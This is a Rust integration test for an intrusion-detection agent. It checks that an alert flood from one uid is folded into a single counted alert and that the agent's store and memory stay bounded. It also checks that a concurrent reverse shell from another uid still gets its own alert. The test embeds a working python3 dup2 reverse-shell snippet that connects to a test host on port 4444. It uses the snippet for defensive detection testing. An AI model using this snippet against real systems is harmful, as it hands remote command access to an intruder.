//! Floods of alerts are counted, not stored one by one, and never hide the real alert. A
//! listening python3 (uid 33, a web server for `lineage`) forks workers that each listen and
//! run `sh -c true` in a tight loop for 20 s: hundreds of `lineage` findings, one per worker.
//! The agent stores at most `alerts.per_origin_per_minute` of them and folds the rest into
//! one `switch_flood` alert whose count grows. Meanwhile a real reverse shell of another uid
//! (65534: a python3 that connects to the test host and puts the socket on stdin and stdout)
//! still gets its own `reverse_shell` alert and a pending decision within seconds, and
//! `sentinel status` answers within a second throughout; the store stays under the smallest
//! `agent.max_db_mb` (16) and the agent's memory grows by less than 32 MiB. Root, the real agent, real processes;
//! every assertion is about what this test started (the flood's marker, its uid, the shell's
//! pid), and every process group it started is killed, also on failure.

mod common;

use std::{
    io::{BufRead, BufReader},
    os::unix::process::CommandExt,
    process::{Child, Command, Stdio},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    thread,
    time::{Duration, Instant},
};

use common::{
    Agent,
    netns::{DE4, TestNet},
    procs::{Procs, hold_connections},
    require_root, serial,
};
use serde_json::Value;

const PORT: u16 = 4444;
const BUDGET: usize = 20;
const FLOOD_UID: u32 = 33;
const SHELL_UID: u32 = 65534;
/// In the flood's shells' arguments, so its alerts are told apart from any other.
const MARK: &str = "floodmark";

/// Wait for `ready` on `child`'s stdout.
fn ready(child: &mut Child, what: &str) {
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line.trim(), "ready", "{what} did not start");
}

/// As uid 33: a python3 listening on loopback whose workers (forked, each listening too, so
/// each is a web server of its own) run `sh -c 'true floodmark'` one after the other.
fn flood(procs: &mut Procs) {
    let script = format!(
        "import os, socket\n\
         s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(8); print('ready', flush=True)\n\
         while True:\n    \
             pid = os.fork()\n    \
             if pid == 0:\n        \
                 w = socket.socket(); w.bind(('127.0.0.1', 0)); w.listen(1)\n        \
                 os.system('true {MARK}'); os._exit(0)\n    \
             os.waitpid(pid, 0)\n"
    );
    let child = procs.spawn(
        Command::new("/usr/bin/python3")
            .args(["-c", &script])
            .uid(FLOOD_UID)
            .gid(FLOOD_UID)
            .current_dir("/")
            .stdin(Stdio::null())
            .stdout(Stdio::piped()),
    );
    ready(child, "the flood");
}

/// As uid 65534: a python3 that connects to the test host and puts the socket on stdin and
/// stdout (the dup2 reverse shell), then waits. Its pid.
fn reverse_shell(procs: &mut Procs) -> u32 {
    let script = format!(
        "import os, socket, time\n\
         s = socket.socket(); s.connect(('{DE4}', {PORT}))\n\
         os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n\
         time.sleep(120)\n"
    );
    procs
        .spawn(
            Command::new("/usr/bin/python3")
                .args(["-c", &script])
                .uid(SHELL_UID)
                .gid(SHELL_UID)
                .current_dir("/")
                .stdin(Stdio::null())
                .stdout(Stdio::null()),
        )
        .id()
}

fn flood_lineage(agent: &Agent) -> Vec<Value> {
    agent
        .events("alert")
        .into_iter()
        .filter(|a| a["anomaly"] == "lineage")
        .filter(|a| a["detail"].as_str().is_some_and(|d| d.contains(MARK)))
        .collect()
}

fn flood_aggregates(agent: &Agent) -> Vec<Value> {
    let origin = format!("from uid {FLOOD_UID} (");
    agent
        .events("alert")
        .into_iter()
        .filter(|a| a["anomaly"] == "switch_flood")
        .filter(|a| a["detail"].as_str().is_some_and(|d| d.contains(&origin)))
        .collect()
}

/// `sentinel status` every 200 ms until `stop`: the slowest answer.
fn watch_status(config: std::path::PathBuf, stop: Arc<AtomicBool>) -> thread::JoinHandle<Duration> {
    thread::spawn(move || {
        let mut slowest = Duration::ZERO;
        while !stop.load(Ordering::Relaxed) {
            let t = Instant::now();
            let out = Command::new(common::BIN)
                .args(["status", "--json", "--config"])
                .arg(&config)
                .output()
                .unwrap();
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
            slowest = slowest.max(t.elapsed());
            thread::sleep(Duration::from_millis(200));
        }
        slowest
    })
}

#[test]
fn a_flood_is_folded_and_another_origins_reverse_shell_still_gets_its_alert_and_decision() {
    if !require_root(
        "a_flood_is_folded_and_another_origins_reverse_shell_still_gets_its_alert_and_decision",
    ) {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("fl");
    let mut procs = Procs::default();
    hold_connections(&net, PORT, &mut procs);
    // The smallest cap: the flood must not push the store past it.
    let agent = Agent::start("max_db_mb = 16");
    let stop = Arc::new(AtomicBool::new(false));
    let status = watch_status(agent.config.clone(), stop.clone());
    let rss_before = rss_kib(agent.pid());

    let started = Instant::now();
    flood(&mut procs);
    // Past the budget: the aggregated alert exists and grows.
    let first = agent.wait_for("alert", "the flood's switch_flood alert", |a| {
        a["anomaly"] == "switch_flood"
            && a["detail"]
                .as_str()
                .is_some_and(|d| d.contains(&format!("from uid {FLOOD_UID} (")))
    });
    assert_eq!(first["severity"], "high", "{first}");
    assert_eq!(first["mitre"]["technique"], "T1562", "{first}");

    // The real reverse shell, in the middle of the flood.
    let shell = reverse_shell(&mut procs);
    let t = Instant::now();
    let alert = agent.wait_for("alert", "the reverse shell's own alert", |a| {
        a["anomaly"] == "reverse_shell" && a["pid"] == shell
    });
    assert_eq!(alert["target_ip"], DE4, "{alert}");
    let pending = loop {
        let pending: Vec<Value> = agent
            .json_lines(&["pending", "--json"])
            .into_iter()
            .filter(|p| {
                p["targets"]
                    .as_array()
                    .is_some_and(|t| t.iter().any(|a| a == DE4))
            })
            .collect();
        if !pending.is_empty() {
            break pending;
        }
        assert!(
            t.elapsed() < Duration::from_secs(10),
            "no pending decision for {DE4}\n{}",
            agent.log()
        );
        thread::sleep(Duration::from_millis(200));
    };
    assert!(
        t.elapsed() < Duration::from_secs(10),
        "the reverse shell waited {:?} for its alert and decision",
        t.elapsed()
    );
    assert_eq!(pending.len(), 1, "{pending:?}");

    // The flood goes on for 20 s in all.
    let middle = flood_aggregates(&agent);
    thread::sleep(Duration::from_secs(20).saturating_sub(started.elapsed()));
    drop(procs);
    thread::sleep(Duration::from_secs(2));
    stop.store(true, Ordering::Relaxed);
    let slowest = status.join().unwrap();

    let lineage = flood_lineage(&agent);
    let aggregates = flood_aggregates(&agent);
    let stats = agent.status();
    eprintln!(
        "flood: {} lineage alerts stored, aggregated {aggregates:?}, status.alerts {}, \
         slowest status {slowest:?}",
        lineage.len(),
        stats["alerts"]
    );
    assert!(
        !lineage.is_empty(),
        "the flood raised nothing\n{}",
        agent.log()
    );
    assert!(
        lineage.len() <= BUDGET,
        "{} lineage alerts stored for one origin in under a minute",
        lineage.len()
    );
    assert_eq!(aggregates.len(), 1, "one aggregated alert: {aggregates:?}");
    let count = |v: &[Value]| v.first().and_then(|a| a["count"].as_u64()).unwrap_or(0);
    assert!(
        count(&aggregates) > count(&middle),
        "the aggregated alert's count did not grow: {middle:?} then {aggregates:?}"
    );
    assert!(
        count(&aggregates) >= 20,
        "a 20 s flood folded only {}: {aggregates:?}",
        count(&aggregates)
    );
    let detail = aggregates[0]["detail"].as_str().unwrap();
    assert!(detail.contains("folded: lineage ×"), "{detail}");
    assert!(
        stats["alerts"]["folded"].as_u64().unwrap() >= count(&aggregates),
        "{stats}"
    );
    assert!(stats["alerts"]["overflow"].is_u64(), "{stats}");
    assert!(
        slowest < Duration::from_secs(1),
        "sentinel status took {slowest:?} during the flood"
    );
    // The store stays under its cap, and the agent's memory bounded.
    let db = agent.dir.path().join("sentinel.db");
    let on_disk = ["", "-wal"]
        .iter()
        .map(|suffix| std::fs::metadata(format!("{}{suffix}", db.display())).map_or(0, |m| m.len()))
        .sum::<u64>();
    assert!(on_disk <= 16 << 20, "the store is {on_disk} bytes on disk");
    let rss_after = rss_kib(agent.pid());
    eprintln!(
        "store {} KiB on disk; agent RSS {rss_before} KiB before the flood, {rss_after} KiB after",
        on_disk >> 10
    );
    // What a flood may cost: its maps are bounded (alerts per origin, candidates, the outbound
    // memory), and the allocator gives freed memory back (src/alloc.rs). 64 MiB is the issue's
    // bound (#23), for the whole process, this debug build's mapped code included (~27 MiB
    // of it; a release build's is ~5 MiB): measured 47–50 MiB.
    assert!(
        rss_after.saturating_sub(rss_before) < 32 << 10,
        "the flood grew the agent from {rss_before} KiB to {rss_after} KiB"
    );
    assert!(
        rss_after < 64 << 10,
        "the agent is {rss_after} KiB resident after the flood"
    );
}

/// A process's resident memory (`VmRSS`), KiB.
fn rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .expect("VmRSS")
}
